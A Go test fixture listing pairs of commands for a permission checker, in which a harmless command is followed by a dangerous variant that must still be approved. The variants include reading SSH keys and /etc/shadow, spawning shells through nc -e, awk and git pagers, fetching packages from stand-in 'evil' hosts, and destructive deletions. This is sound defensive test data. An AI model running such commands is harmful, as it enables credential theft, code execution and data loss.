// SPDX-License-Identifier: Apache-2.0

package command_test

// dangerous has pairs of commands: when the first is allowed always, the second must still be asked about.
const dangerous = `
// git: options that write files or run programs, configuration, other repositories, other subcommands
git diff => git diff --output=/tmp/x
git diff => git diff --outpu=/tmp/x
git diff => git diff --output /tmp/x
git diff => git diff --ext-diff
git diff => git diff --no-index /etc/passwd /dev/null
git diff => git diff a.txt /etc/shadow
git diff => git diff -O/etc/passwd
git log => git log --output=a.txt
git log => git log --ext-diff -p
git log => git log --author /etc/passwd
git log => git log -p -- ../other
git log => git -c core.pager=sh log
git log => git -c alias.x=!sh x
git log => git -p log
git log => git --exec-path=/tmp log
git log => git --git-dir=/tmp/evil log
git log => git --work-tree=/ log
git log => git -C sub log
git log => git --paginate log
git log => git log -L :x:/etc/passwd
git log => cd sub && git log
git log => cd a && git log && git status
git status => cd sub && git status
git show => git show --output=a.txt
git show => git show --ext-diff HEAD
git show => git show --textconv HEAD:a.txt
git grep foo => git grep --open-files-in-pager=sh foo
git grep foo => git grep -Osh foo
git grep foo => git grep -O sh foo
git grep foo => git grep --open=sh foo
git grep foo => git grep --no-index foo /etc
git grep foo => git grep -f /etc/passwd
git grep foo => git grep foo -- :/
git grep foo => git grep foo -- ':(top)secret'
git blame a.txt => git blame --contents /etc/passwd a.txt
git blame a.txt => git blame /etc/passwd
git cat-file -p HEAD => git cat-file --batch
git cat-file -p HEAD => git cat-file --filters HEAD:a.txt
git cat-file -p HEAD => git cat-file --textconv HEAD:a.txt
git branch => git branch -D main
git branch => git branch new
git branch --list => git branch --list -D main
git branch --list => git branch --edit-description
git tag -l => git tag -d v1
git tag -l => git tag -l -d v1
git remote -v => git remote add evil ext::sh
git remote -v => git remote -v update
git stash list => git stash drop
git stash list => git stash list --output=x
git rev-parse HEAD => git rev-parse --parseopt
git ls-files => git ls-files --exclude-from=/etc/passwd
git ls-files => git ls-files -X /etc/passwd
git add a.txt => git add --force ignored
git add a.txt => git add ../x
git add a.txt => git add --pathspec-from-file=/etc/passwd
git commit -m x => git commit -m x --amend
git commit -m x => git commit -m x --no-verify
git commit -m x => git commit -m x -n
git commit -m x => git commit -F /etc/passwd
git commit -m x => git commit --template=/etc/passwd
git commit -m x => git commit -m x --gpg-sign
git fetch => git fetch ext::sh
git fetch => git fetch --upload-pack=sh origin
git fetch => git fetch ./evil
git fetch => git fetch evil:repo
git fetch => git fetch origin +main:main
git push => git push --force
git push => git push origin +main
git push => git push --receive-pack=sh
git push => git push --no-verify
git pull => git pull --rebase
git clone x => git clone y
git clone x => git clone -u sh x
git checkout main => git checkout -f main
git config --get user.name => git config core.pager sh
git bisect log => git bisect run sh
git rebase main => git rebase -x sh main
git submodule status => git submodule foreach sh
git archive HEAD => git archive --exec=sh HEAD
git archive HEAD => git archive -o x HEAD
git difftool => git difftool -x sh
git log --oneline => git log --oneline ; git push
git log --oneline => git log --oneline && git push
git log --oneline => git log --oneline | sh
git log --oneline => git log --oneline > a.txt
git log --oneline => git log --oneline >> a.txt
git log --oneline => git log $(sh)
git log --oneline => GIT_PAGER=sh git log --oneline
git log --oneline => GIT_EXTERNAL_DIFF=sh git log --oneline
git log --oneline => env GIT_PAGER=sh git log
// go
go test ./a => go test -exec sh ./a
go test ./a => go test -exec=sh ./a
go test ./a => go test --exec=sh ./a
go test ./a => go test ./a -exec sh
go test ./a => go test -toolexec sh ./a
go test ./a => go test -toolexec=sh ./a
go test ./a => go test -vettool=sh ./a
go test ./a => go test -o /tmp/x ./a
go test ./a => go test -c ./a
go test ./a => go test -coverprofile=main.go ./a
go test ./a => go test -cpuprofile main.go ./a
go test ./a => go test -outputdir / -cpuprofile x ./a
go test ./a => go test -C /tmp ./a
go test ./a => go test -overlay=/tmp/o.json ./a
go test ./a => go test -modfile=/tmp/go.mod ./a
go test ./a => go test -mod=mod ./a
go test ./a => go test -ldflags=-extld=sh ./a
go test ./a => go test -gcflags=-x ./a
go test ./a => go test -asmflags=-x ./a
go test ./a => go test ./a -args -x
go test ./a => go test /tmp/evil
go test ./a => go test example.com/evil/...
go test ./a => go test std
go test ./a => go test ../other
go test ./a => go test out/evil
go test ./a => go test -run x=y -exec sh
go test ./a => cd .. && go test ./...
go test ./a => cd /tmp && go test ./...
go test ./a => cd out && go test ./...
go test ./a => cd a; go test ./...
go test ./a => cd a || go test ./...
go test ./a => CGO_CFLAGS=-x go test ./a
go test ./a => GOFLAGS=-toolexec=sh go test ./a
go test ./a => ./go test ./a
go test ./a => /tmp/go test ./a
go test ./a => Go test ./a
go test ./a => go Test ./a
go test ./a => go run ./a
go test ./a => go generate ./a
go test ./a => go test ./a & sh
go test ./a => go test ./a | sh
go test ./a => go test ./a | tee /etc/x
go test ./a => go test ./a | xargs rm
go test ./a => echo x | go test ./a | sh
go vet ./... => go vet -vettool=sh ./...
go vet ./... => go vet -vettool sh ./...
go vet ./... => go vet --vettool=sh ./...
go vet ./... => go vet -toolexec=sh ./...
go build ./... => go build -toolexec sh ./...
go build ./... => go build -o /usr/local/bin/x ./...
go build ./... => go build -o=../x ./...
go build ./... => go build -ldflags='-linkmode=external -extld=sh' .
go build ./... => go build -buildmode=plugin .
go build ./... => go build -pkgdir /tmp .
go list ./... => go list -toolexec=sh ./...
go list ./... => go list -export ./...
go list ./... => go list -modfile=/tmp/x ./...
go env GOPATH => go env -w GOFLAGS=-toolexec=sh
go env GOPATH => go env -u GOFLAGS
go mod tidy => go mod edit -replace=a=b
go mod tidy => go mod tidy -C /tmp
go mod download => go mod download evil.example/x@latest
go run . => go run . --x
go install ./a => go install evil.example/x@latest
gofmt -l . => gofmt -w .
gofmt -l . => gofmt -l -r 'a -> b' -w .
gofmt -w a.go => gofmt -w /etc/x.go
gofmt -w a.go => gofmt -w -r 'a -> b' a.go
gofmt -l . => gofmt -l -cpuprofile=a.txt .
staticcheck ./... => staticcheck -debug.cpuprofile=a.txt ./...
golangci-lint run => golangci-lint run --fix
golangci-lint run => golangci-lint run -c /tmp/x.yml
golangci-lint run => golangci-lint custom
// looking at files: outside, and writing
cat a.txt => cat /etc/shadow
cat a.txt => cat ../secret
cat a.txt => cat passwd
cat a.txt => cat out/secret
cat a.txt => cat self/../../secret
cat a.txt => cat ~/.ssh/id_rsa
cat a.txt => cat dangling
cat a.txt => cat < /etc/passwd
cat a.txt => cat a.txt > b.txt
cat a.txt => cat *
cat a.txt => cat $HOME/x
cat a.txt => cat {a,/etc/passwd}
cat a.txt => cat a.txt -- /etc/passwd
cat a.txt => cd sub && cat ../../secret
cat a.txt => cat a.txt; rm b.txt
head a.txt => head -n5 /etc/passwd
tail a.txt => tail -f /var/log/syslog
wc -l a.txt => wc --files0-from=/etc/passwd
ls => ls /root
ls => ls ..
ls => ls | sh
tree => tree -o a.txt
tree => tree --fromfile /etc/passwd
tree => tree -l
file a.txt => file -f /etc/passwd
file a.txt => file -C -m x
stat a.txt => stat /etc/shadow
du -sh . => du --files0-from=x
grep foo a.txt => grep foo /etc/passwd
grep foo a.txt => grep -f /etc/passwd a.txt
grep foo a.txt => grep -e /etc/passwd a.txt
grep foo a.txt => grep -R foo .
grep foo a.txt => grep -r foo /
grep foo a.txt => grep --file=/etc/passwd a.txt
grep foo a.txt => grep -rf/etc/passwd .
rg foo => rg --pre sh foo
rg foo => rg --pre=sh foo
rg foo => rg --hostname-bin=sh foo
rg foo => rg -z foo
rg foo => rg -L foo
rg foo => rg --follow foo
rg foo => rg -f /etc/passwd
rg foo => rg -e foo /etc
rg foo => rg --files /
rg foo => rg --ignore-file=/etc/passwd foo
find . -name x => find . -name x -exec rm {} +
find . -name x => find . -name x -execdir sh +
find . -name x => find . -ok rm +
find . -name x => find . -delete
find . -name x => find . -fprint a.txt
find . -name x => find . -fprintf a.txt x
find . -name x => find . -fls a.txt
find . -name x => find / -name x
find . -name x => find -L . -name x
find . -name x => find . -follow
find . -name x => find -files0-from x
find . -name x => find . -newer /etc/passwd
sed -n 1,5p a.txt => sed -n -i 1,5p a.txt
sed -n 1,5p a.txt => sed -n '1e sh' a.txt
sed -n 1,5p a.txt => sed -n 'w b.txt' a.txt
sed -n 1,5p a.txt => sed -n '1,5p;w b.txt' a.txt
sed -n 1,5p a.txt => sed -n 1,5p /etc/passwd
sed -n 1,5p a.txt => sed -n -f x a.txt
sed -n 1,5p a.txt => sed -i s/a/b/ a.txt
sed s/a/b/ a.txt => sed s/a/b/e a.txt
sort a.txt => sort -o b.txt a.txt
sort a.txt => sort -ob.txt a.txt
sort a.txt => sort --output=b.txt a.txt
sort a.txt => sort --compress-program=sh a.txt
sort a.txt => sort -T / a.txt
sort a.txt => sort --files0-from=x
uniq a.txt => uniq a.txt b.txt
cut -f1 a.txt => cut -f1 /etc/passwd
date => date -s 2020-01-01
date => date 010100002020
date => date -f /etc/passwd
hostname => hostname evil
echo a => echo a > b.txt
echo a => echo $SECRET
echo a => echo a | sh
echo a => echo a & sh
printf a => printf a >> b.txt
tr a b => tr a b < /etc/passwd
od a.txt => od /dev/sda
strings a.txt => strings @x
sha256sum a.txt => sha256sum -c x
pwd => pwd; sh
// the projects' own programs, with more than they were allowed
make test => make test SHELL=/tmp/sh
make test => make -f /tmp/Makefile test
make test => make -C /tmp test
make test => make --eval=x test
make test => make install
make test => make test install
make test => make CC=sh test
make test => MAKEFLAGS=-f/tmp/x make test
npm test => npm exec evil
npm test => npm test -- --x
npm test => npm --prefix /tmp test
npm test => npm test --script-shell=/tmp/sh
npm run build => npm run deploy
npm run build => npm run build -- --outdir /
npm run build => npm run build --prefix=/tmp
npm ci => npm ci --registry=http://evil.example
npm ls => npm install evil
npm exec prettier => npm exec evil
npx prettier => npx evil
yarn test => yarn dlx evil
pnpm test => pnpm dlx evil
node a.js => node b.js
node --version => node -e x
tsc --noEmit => tsc --noEmit -p /tmp
tsc --noEmit => tsc --noEmit --outDir /tmp
tsc --noEmit => tsc
eslint src => eslint --fix src
eslint src => eslint -c /tmp/x.js src
eslint src => eslint --rulesdir /tmp src
eslint src => eslint -f /tmp/x.js src
eslint src => eslint -o a.txt src
prettier --check src => prettier --write src
prettier --check src => prettier --check --plugin=/tmp/x src
jest => jest --config=/tmp/x
jest => jest --globalSetup /tmp/x
vitest run => vitest run --config /tmp/x
pytest => pytest -p evil
pytest => pytest -c /tmp/x
pytest => pytest --rootdir=/tmp
pytest => pytest -o addopts=-pevil
pytest => pytest @args
pytest => pytest /tmp/evil
pytest => pytest --pyargs evil
pytest => pytest --basetemp=/
pytest => pytest --confcutdir=/tmp
python -m pytest => python -m evil
python -m pytest => python -m pytest -p evil
python a.py => python b.py
python --version => python -c x
python3 --version => python3 a.py
pip list => pip install evil
pip show a => pip download evil
ruff check . => ruff check --fix .
ruff check . => ruff check --config=/tmp/x .
ruff format --check . => ruff format .
black --check . => black .
mypy . => mypy --config-file=/tmp/x .
mypy . => mypy --python-executable=/tmp/sh .
mypy . => mypy --install-types .
uv run a => uv run b
uv run pytest => uv run sh
poetry run pytest => poetry run sh
cargo test => cargo test --config 'build.rustc-wrapper="sh"'
cargo test => cargo --config x test
cargo test => cargo +evil test
cargo test => cargo test --manifest-path=/tmp/Cargo.toml
cargo test => cargo test --target-dir=/tmp
cargo test => cargo test -Z x
cargo test => cargo run
cargo build => cargo build --out-dir=/tmp
cargo fmt => cargo fmt -- --config-path=/tmp
cargo check => cargo install evil
mvn test => mvn -f /tmp/pom.xml test
mvn test => mvn test -Dexec.executable=sh
gradle test => gradle -I /tmp/x.gradle test
./gradlew test => cd sub && ./gradlew test
./gradlew test => ./gradlew publish
dotnet build => dotnet build /tmp/x.csproj
dotnet build => dotnet build -p:X=y
dotnet build => dotnet build @x.rsp
dotnet test => dotnet exec x.dll
bundle exec rspec => bundle exec sh
rspec => rspec -r /tmp/x
rubocop => rubocop -A
rubocop => rubocop -r /tmp/x
shellcheck a.sh => shellcheck /etc/profile
docker ps => docker run -v /:/x alpine
docker ps => docker -H tcp://evil ps
docker images => docker rmi -f x
docker run alpine ls => docker run alpine sh
// programs that run others, or do what cannot be undone
sh a.sh => sh b.sh
bash -c ls => bash -c rm
zsh -c ls => zsh -c rm
busybox ls => busybox sh
env ls => env sh
xargs ls => xargs rm
nohup ls => nohup sh
timeout 5 ls => timeout 5 sh
nice ls => nice sh
time ls => time sh
watch ls => watch sh
flock x ls => flock x sh
chroot . ls => chroot . sh
sudo ls => sudo sh
doas ls => doas sh
setsid ls => setsid sh
strace ls => strace sh
unshare ls => unshare sh
nsenter ls => nsenter sh
script -c ls => script -c sh
ssh host ls => ssh -o ProxyCommand=sh host ls
scp a b => scp -S sh a b
rsync a b => rsync -e sh a b
curl http://a => curl -o a.txt http://a
curl http://a => curl http://b
wget http://a => wget -O a.txt http://a
nc a 1 => nc -e sh a 1
awk 1 a.txt => awk 'BEGIN{system("sh")}'
perl a => perl -e x
ruby a => ruby -e x
php a => php -r x
lua a => lua -e x
less a.txt => less b.txt
man ls => man -P sh ls
vim a => vim -c x
ed a => ed b
tee a.txt => tee b.txt
dd if=a => dd if=b of=c
tar cf x a => tar cf x a --checkpoint=1 --checkpoint-action=exec=sh
zip a b => zip a b -T -TT sh
unzip a => unzip b
rm a.txt => rm b.txt
rm a.txt => rm -rf a.txt
mv a b => mv a c
cp a b => cp a c
ln -s a b => ln -s / b
mkdir a => mkdir b
touch a => touch b
chmod 600 a => chmod 777 a
chown a b => chown c b
kill 1 => kill 2
crontab -l => crontab x
systemctl status x => systemctl stop x
mount => mount a b
openssl version => openssl enc -in x
gpg -k => gpg -d x
jq . a.json => jq env
printenv PATH => printenv SECRET
env => env A=b
export A=b => export A=c
eval ls => eval rm
exec ls => exec sh
source a => source b
alias => alias ls=rm
kubectl get pods => kubectl delete pods
terraform plan => terraform apply
psql -c a => psql -c b
sqlite3 a b => sqlite3 a c
gcc a.c => gcc b.c
cmake --version => cmake -P x
ansible a => ansible b
gdb a => gdb b
`
